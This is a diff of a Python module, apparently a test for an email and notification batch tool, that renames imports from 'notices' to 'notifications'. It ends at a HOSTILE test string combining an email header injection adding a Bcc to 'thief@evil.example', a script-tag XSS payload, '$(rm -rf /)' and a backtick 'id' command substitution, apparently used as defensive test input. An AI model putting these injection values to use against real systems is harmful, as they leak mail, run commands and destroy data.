@@ -10,12 +10,12 @@ from notices_help import WHEN, notice, well
 from zns_batch.core.logging import hide
 from zns_batch.domain.states import CampaignState, RowState
 from zns_batch.i18n import LANGS, Lang
-from zns_batch.notices.cleaning import one_line, path_text
-from zns_batch.notices.command import child_environment
-from zns_batch.notices.message import message
-from zns_batch.notices.notice import Need, Notice, NoticeKind
-from zns_batch.notices.payload import as_bytes, as_object, as_variables
-from zns_batch.notices.words import letter, page, subject, summary
+from zns_batch.notifications.command import child_environment
+from zns_batch.notifications.email import message
+from zns_batch.notifications.notification import Need, Notice, NoticeKind
+from zns_batch.notifications.payload import as_bytes, as_object, as_variables
+from zns_batch.notifications.redact import one_line, path_text
+from zns_batch.notifications.text import letter, page, subject, summary
 
 HOSTILE = (
     "Tháng 12\r\nBcc: thief@evil.example\r\n\r\n<script>alert(1)</script> $(rm -rf /) `id` ; "
